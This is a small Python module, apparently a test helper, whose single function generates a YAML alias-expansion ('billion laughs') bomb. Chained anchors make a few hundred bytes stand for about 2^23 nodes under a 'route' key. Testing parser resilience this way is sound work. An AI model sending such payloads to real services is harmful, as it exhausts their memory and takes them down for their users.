"""YAML that is small to send and endless to read."""

from __future__ import annotations


def bomb(levels: int = 23) -> str:
    """Some hundred bytes that stand for 2 to the power of `levels` nodes."""
    lines = ["a0: &a0 [x, x]"]
    lines += [f"a{one}: &a{one} [*a{one - 1}, *a{one - 1}]" for one in range(1, levels)]
    return "\n".join([*lines, f"route: *a{levels - 1}", ""])
